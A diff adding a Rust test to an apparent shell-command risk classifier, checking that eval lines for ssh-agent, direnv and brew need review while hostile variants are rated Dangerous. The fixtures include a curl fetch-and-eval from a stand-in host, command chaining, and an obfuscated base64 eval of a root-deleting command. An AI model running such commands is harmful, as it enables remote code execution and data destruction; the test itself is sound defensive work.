@@ -124,3 +124,18 @@ fn renaming_in_a_loop_is_no_alarm() {
     );
     all(Risk::Safe, &["jq --arg n 3 '.items[0]' data.json", "jq --argjson n 3 '.items[:$n]' data.json"]);
 }
+
+#[test]
+fn settings_that_a_tool_prints_for_a_shell_are_no_alarm() {
+    all(Risk::NeedsReview, &["eval \"$(ssh-agent -s)\"", "eval \"$(direnv hook bash)\"", "eval \"$(brew shellenv)\""]);
+    all(
+        Risk::Dangerous,
+        &[
+            "eval \"$(curl -s https://x.example)\"",
+            "eval \"$(ssh-agent -s; curl x)\"",
+            "eval \"$(ssh-agent -s)$(cat x)\"",
+            "bash -c \"$(ssh-agent -s)\"",
+            "eval $(echo cm0gLXJmIC8K | base64 -d)",
+        ],
+    );
+}
